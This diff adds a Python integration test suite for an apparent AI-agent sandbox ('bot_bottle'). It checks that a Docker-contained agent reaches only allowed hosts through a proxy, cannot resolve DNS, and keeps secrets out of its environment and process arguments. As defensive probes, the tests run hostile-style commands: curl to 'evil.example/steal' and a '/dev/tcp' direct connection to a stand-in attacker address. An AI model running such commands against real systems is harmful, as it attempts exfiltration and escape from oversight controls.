@@ -1,0 +1,175 @@
+"""A real bottle holds: its agent reaches allowed hosts only through the proxy, and nothing else."""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import tempfile
+import subprocess
+import threading
+import unittest
+from pathlib import Path
+from unittest import mock
+
+from bot_bottle.backend.docker import engine
+from tests._docker import skip_unless_docker
+from tests.integration import _harness as h
+
+HOST_SECRET = "hs-9f3a0c7e1b55d2aa-host-var-secret"
+
+
+def _docker0_gateway() -> str | None:
+    out = engine.run(["network", "inspect", "-f", "{{range .IPAM.Config}}{{.Gateway}}{{end}}", "bridge"], timeout=30, check=False)
+    return out.stdout.strip() or None
+
+
+class _HostService:
+    """A TCP service on this machine (all interfaces), recording whether anything connected."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self.sock.bind(("0.0.0.0", 0))
+        self.sock.listen(8)
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.connections = 0
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while not self._stop.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            self.connections += 1
+            conn.close()
+
+    def close(self) -> None:
+        self._stop.set()
+        self._thread.join(timeout=2)
+        self.sock.close()
+
+
+@skip_unless_docker()
+class BottleIsolation(unittest.TestCase):
+    @classmethod
+    def setUpClass(cls) -> None:
+        cls.internet = h.Internet.create("allowed.example", "evil.example")
+        cls.host_service = _HostService()
+        cls._tmp = tempfile.TemporaryDirectory(prefix="bb-iso-")
+        cls.home = Path(cls._tmp.name)
+        layout = h.write_manifests(cls.home)
+        cls.plan = h.plan_for(layout)
+
+    @classmethod
+    def tearDownClass(cls) -> None:
+        cls.internet.close()
+        cls.host_service.close()
+        cls._tmp.cleanup()
+
+    def setUp(self) -> None:
+        self.bottle, self.launcher = h.launch(
+            self,
+            self.plan,
+            self.home / ".bot-bottle" / "state",
+            internet=self.internet,
+            env={"PLAIN_SETTING": "visible-value", "HOST_SECRET": HOST_SECRET},
+        )
+
+    def sh(self, cmd: str, user: str = "node"):
+        return self.bottle.exec(cmd, user=user)
+
+    def test_allowed_host_answers_through_the_proxy(self) -> None:
+        r = self.sh("curl -sS -m 10 http://allowed.example/hello")
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertIn("hello from allowed.example", r.stdout)
+        self.assertTrue(any(hit["path"] == "/hello" for hit in self.internet.hits("allowed.example")))
+
+    def test_other_host_gets_403_naming_host_and_rule(self) -> None:
+        r = self.sh("curl -sS -m 10 -w '\\n%{http_code}' http://evil.example/steal")
+        self.assertEqual(r.stdout.strip().splitlines()[-1], "403", r.stdout + r.stderr)
+        self.assertIn("evil.example", r.stdout)
+        tls = self.sh("curl -sS -m 10 https://evil.example/steal")
+        self.assertNotEqual(tls.returncode, 0)
+        self.assertEqual(self.internet.hits("evil.example"), [], "evil.example was reached")
+
+    def test_direct_tcp_to_any_address_fails(self) -> None:
+        evil_ip = self.internet.ip("evil.example")
+        r = self.sh(f"curl -sS -m 5 --noproxy '*' http://{evil_ip}/direct")
+        self.assertNotEqual(r.returncode, 0)
+        r = self.sh(f"timeout 5 bash -c 'echo x > /dev/tcp/{evil_ip}/80'")
+        self.assertNotEqual(r.returncode, 0)
+        self.assertEqual(self.internet.hits("evil.example"), [])
+        gateway = _docker0_gateway()
+        self.assertIsNotNone(gateway)
+        before = self.host_service.connections
+        r = self.sh(f"timeout 5 bash -c 'echo x > /dev/tcp/{gateway}/{self.host_service.port}'")
+        self.assertNotEqual(r.returncode, 0, "the host's own service was reachable")
+        self.assertEqual(self.host_service.connections, before)
+
+    def test_only_loopback_and_no_routes(self) -> None:
+        r = self.sh("ls /sys/class/net")
+        self.assertEqual(r.stdout.split(), ["lo"])
+        r = self.sh("cat /proc/net/route | tail -n +2")
+        self.assertEqual(r.stdout.strip(), "")
+
+    def test_no_dns_resolution(self) -> None:
+        for name in ("evil.example", "allowed.example", "localhost.localdomain.example"):
+            r = self.sh(f"getent hosts {name}")
+            self.assertNotEqual(r.returncode, 0, f"{name} resolved: {r.stdout}")
+
+    def test_env_has_no_secret_values_for_other_processes_and_runs_as_node(self) -> None:
+        self.assertEqual(self.sh("id -un").stdout.strip(), "node")
+        self.assertEqual(self.sh("id -u").stdout.strip(), "1000")
+        env = self.sh("env").stdout
+        self.assertIn("PLAIN_SETTING=visible-value", env)
+        self.assertNotIn("test-credential-", env, "a route credential reached the agent")
+
+    def test_secret_env_never_on_a_host_argv(self) -> None:
+        # Launch a second bottle while recording the argv of every process the launch spawns.
+        seen: list[list[str]] = []
+        real_popen = subprocess.Popen
+
+        class Recording(real_popen):  # type: ignore[misc,valid-type]
+            def __init__(self, args, *a, **kw):  # noqa: ANN001
+                seen.append([str(x) for x in args] if isinstance(args, (list, tuple)) else [str(args)])
+                super().__init__(args, *a, **kw)
+
+        with mock.patch.object(subprocess, "Popen", Recording):
+            bottle, _ = h.launch(
+                self, self.plan, self.home / ".bot-bottle" / "state", internet=self.internet,
+                env={"HOST_SECRET": HOST_SECRET},
+            )
+            bottle.exec("true")
+        self.assertTrue(any("create" in argv for argv in seen), "the spy saw no docker create")
+        for argv in seen:
+            joined = " ".join(argv)
+            self.assertNotIn(HOST_SECRET, joined)
+            self.assertNotIn("test-credential-", joined)
+        inspect = engine.run(["inspect", self.launcher.names.agent_container], timeout=30).stdout
+        self.assertNotIn("test-credential-", inspect, "a route credential is in the agent's container config")
+
+    def test_hardening_flags(self) -> None:
+        data = json.loads(engine.run(["inspect", self.launcher.names.agent_container], timeout=30).stdout)[0]
+        hc = data["HostConfig"]
+        self.assertEqual(hc["NetworkMode"], "none")
+        self.assertIn("ALL", hc["CapDrop"])
+        self.assertIn("no-new-privileges", " ".join(hc["SecurityOpt"] or []))
+        self.assertGreater(hc["Memory"], 0)
+        self.assertGreater(hc["PidsLimit"], 0)
+        self.assertEqual(data["Config"]["User"], "node")
+        self.assertEqual(data["Config"]["Labels"]["bot-bottle.id"], self.launcher.names.id)
+
+    def test_killing_the_forwarder_takes_the_agent_offline(self) -> None:
+        self.sh("pkill -f 'TCP-LISTEN:3128' || true", user="node")
+        self.sh("pkill socat || true", user="root")
+        r = self.sh("curl -sS -m 5 http://allowed.example/after-kill")
+        self.assertNotEqual(r.returncode, 0)
+
+
+if __name__ == "__main__":
+    unittest.main()
